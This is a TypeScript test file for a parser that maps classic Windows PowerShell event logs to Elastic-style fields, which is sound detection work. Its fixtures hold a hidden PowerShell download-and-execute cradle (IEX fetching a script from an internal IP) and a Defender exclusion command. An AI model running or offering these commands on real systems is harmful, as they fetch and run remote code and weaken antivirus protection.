// The classic "Windows PowerShell" channel (400/403/600/800) mapped as the windows integration's
// `powershell` ingest pipeline does. Fixtures are written here as Windows renders these events
// (unnamed Data elements, CRLF line ends, `\tKey=Value` lines).
import { describe, expect, it } from 'vitest';
import type { RawWindowsEvent } from '../src/evtx/types.js';
import { mapRawWindowsEvent as mapRaw } from '../src/events/windows/index.js';

// eslint-disable-next-line @typescript-eslint/no-explicit-any
const mapRawWindowsEvent = (r: RawWindowsEvent) => mapRaw(r) as { source: Record<string, any>; index: string };

const HOST_APP = 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://10.0.0.5/a.ps1\')"';

function classic(id: number, params: string[], time = '2020-09-21T19:04:42.1234567Z'): RawWindowsEvent {
  const data: Record<string, string> = {};
  params.forEach((p, i) => (data[`param${i + 1}`] = p));
  return {
    System: {
      Provider: { Name: 'PowerShell' },
      EventID: String(id),
      Qualifiers: '0',
      Level: '4',
      Task: id === 800 ? '8' : id === 600 ? '6' : '4',
      Keywords: '0x80000000000000',
      TimeCreated: time,
      EventRecordID: '5012',
      Channel: 'Windows PowerShell',
      Computer: 'WORKSTATION6.theshire.local',
    },
    EventData: data,
  };
}

const lines = (pairs: [string, string][]) => pairs.map(([k, v]) => `\t${k}=${v}`).join('\r\n');

const engine400 =
  lines([['NewEngineState', 'Available'], ['PreviousEngineState', 'None']]) +
  '\r\n\r\n' +
  lines([['SequenceNumber', '13']]) +
  '\r\n\r\n' +
  lines([
    ['HostName', 'ConsoleHost'],
    ['HostVersion', '5.1.18362.752'],
    ['HostId', 'a3bd36cd-3f2e-4c3b-9a7e-2f5d8f3f61a9'],
    ['HostApplication', HOST_APP],
    ['EngineVersion', '5.1.18362.752'],
    ['RunspaceId', '6c8e1f4a-9d1b-4a55-b0f4-7d0f7b1c2e33'],
    ['PipelineId', ''],
    ['CommandName', ''],
    ['CommandType', ''],
    ['ScriptName', ''],
    ['CommandPath', ''],
    ['CommandLine', ''],
  ]);

describe('Windows PowerShell (classic channel)', () => {
  it('400 engine started: process.* from the key=value lines of param3, powershell.engine.*', () => {
    const { source, index } = mapRawWindowsEvent(classic(400, ['Available', 'None', engine400]));
    expect(index).toBe('logs-windows.powershell-default');
    expect(source.event).toEqual({
      kind: 'event',
      code: '400',
      provider: 'PowerShell',
      category: 'process',
      type: 'start',
      sequence: 13,
      module: 'windows',
      dataset: 'windows.powershell',
    });
    expect(source.process).toEqual({
      entity_id: 'a3bd36cd-3f2e-4c3b-9a7e-2f5d8f3f61a9',
      command_line: HOST_APP,
      title: 'ConsoleHost',
      args: ['powershell.exe', '-nop', '-w', 'hidden', '-c', "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"],
      args_count: 6,
    });
    expect(source.powershell).toEqual({
      engine: { new_state: 'Available', previous_state: 'None', version: '5.1.18362.752' },
      runspace_id: '6c8e1f4a-9d1b-4a55-b0f4-7d0f7b1c2e33',
      process: { executable_version: '5.1.18362.752' },
    });
    // Consumed and empty values are removed; nothing else is left of the event data.
    expect(source.winlog.event_data).toBeUndefined();
    expect(source.user).toBeUndefined();
    expect(source.log).toEqual({ level: 'information' });
    expect(source['@timestamp']).toBe('2020-09-21T19:04:42.1234567Z');
  });

  it('403 engine stopped is event.type end', () => {
    const { source } = mapRawWindowsEvent(classic(403, ['Stopped', 'Available', engine400.replace('=Available', '=Stopped').replace('=None', '=Available')]));
    expect(source.event.type).toBe('end');
    expect(source.powershell.engine).toEqual({ new_state: 'Stopped', previous_state: 'Available', version: '5.1.18362.752' });
  });

  it('600 provider started: values between keys, whatever they hold', () => {
    const param3 =
      lines([['ProviderName', 'Registry'], ['NewProviderState', 'Started']]) +
      '\r\n\r\n' +
      lines([['SequenceNumber', '1']]) +
      '\r\n\r\n' +
      lines([['HostName', 'ConsoleHost'], ['HostApplication', 'powershell.exe -c "a=1\r\nb=2"'], ['CommandLine', '']]);
    const { source } = mapRawWindowsEvent(classic(600, ['Registry', 'Started', param3]));
    expect(source.event.type).toBe('info');
    expect(source.event.sequence).toBe(1);
    expect(source.powershell).toEqual({ provider: { name: 'Registry', new_state: 'Started' } });
    // A value may span lines and hold '=': it runs to the next "\tKey=".
    expect(source.process.command_line).toBe('powershell.exe -c "a=1\nb=2"');
    expect(source.process.title).toBe('ConsoleHost');
  });

  it('800 pipeline execution: param2 key=value lines, user from UserId, invocation details from param3', () => {
    const param2 =
      lines([['DetailSequence', '1'], ['DetailTotal', '1']]) +
      '\r\n\r\n' +
      lines([['SequenceNumber', '21']]) +
      '\r\n\r\n' +
      lines([
        ['UserId', 'THESHIRE\\pgustavo'],
        ['HostName', 'ConsoleHost'],
        ['HostId', 'a3bd36cd-3f2e-4c3b-9a7e-2f5d8f3f61a9'],
        ['HostApplication', 'powershell.exe'],
        ['PipelineId', '3'],
        ['ScriptName', 'C:\\Users\\pgustavo\\run.ps1'],
        ['CommandLine', 'Add-MpPreference -ExclusionPath C:\\Temp'],
      ]);
    const param3 =
      'CommandInvocation(Add-MpPreference): "Add-MpPreference"\r\nParameterBinding(Add-MpPreference): name="ExclusionPath"; value="C:\\Temp"\r\nstray line\r\n';
    const { source } = mapRawWindowsEvent(classic(800, ['Add-MpPreference -ExclusionPath C:\\Temp', param2, param3]));
    expect(source.event.sequence).toBe(21);
    expect(source.user).toEqual({ domain: 'THESHIRE', name: 'pgustavo' });
    expect(source.related).toEqual({ user: ['pgustavo'] });
    expect(source.file).toEqual({ path: 'C:\\Users\\pgustavo\\run.ps1', name: 'run.ps1', directory: 'C:\\Users\\pgustavo', extension: 'ps1' });
    expect(source.powershell).toEqual({
      total: 1,
      sequence: 1,
      pipeline_id: '3',
      command: {
        value: 'Add-MpPreference -ExclusionPath C:\\Temp',
        invocation_details: [
          { type: 'CommandInvocation', related_command: 'Add-MpPreference', value: '"Add-MpPreference"' },
          { type: 'ParameterBinding', related_command: 'Add-MpPreference', name: '"ExclusionPath"', value: '"C:\\Temp"' },
          { value: 'stray line' },
        ],
      },
    });
    expect(source.process).toEqual({ entity_id: 'a3bd36cd-3f2e-4c3b-9a7e-2f5d8f3f61a9', command_line: 'powershell.exe', title: 'ConsoleHost', args: ['powershell.exe'], args_count: 1 });
    expect(source.winlog.event_data).toBeUndefined();
  });
});
